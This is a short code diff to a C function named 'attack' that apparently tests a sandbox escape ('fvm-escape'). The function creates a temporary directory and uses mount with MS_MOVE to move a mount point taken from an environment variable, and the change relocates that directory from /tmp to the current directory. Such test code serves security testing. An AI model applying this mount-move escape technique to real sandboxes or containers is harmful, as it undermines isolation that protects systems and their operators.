@@ -4,7 +4,7 @@
 void attack(int n, char **word) {
     (void)n;
     (void)word;
-    char place[] = "/tmp/fvm-escape-XXXXXX";
+    char place[] = "./fvm-escape-XXXXXX";
     TRY(mkdtemp(place) ? 0 : -1);
     mount(getenv("ESCAPE_HOME"), place, NULL, MS_MOVE, NULL);
     rmdir(place);
